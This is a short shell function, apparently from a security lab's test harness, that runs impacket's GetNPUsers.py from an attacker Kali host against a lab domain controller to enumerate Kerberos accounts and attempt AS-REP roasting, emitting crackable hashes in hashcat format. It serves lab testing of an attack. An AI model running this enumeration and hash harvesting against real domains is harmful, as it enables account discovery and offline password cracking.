# Kerberos account enumeration (and AS-REP roasting attempt) with impacket GetNPUsers.py -usersfile
# from the attacker KALI, over TCP 88. data/users-getnpusers.txt: 4 real accounts, 14 unknown.
run() {
  grep -v '^#' "$LAB_ROOT/test/lab/data/users-getnpusers.txt" >users-getnpusers.txt
  atk "$PY" "$IMPACKET_EX/GetNPUsers.py" "$REALM/" -usersfile users-getnpusers.txt \
    -dc-ip "$DC_IP" -no-pass -format hashcat || true   # exits non-zero when no hash was found
}
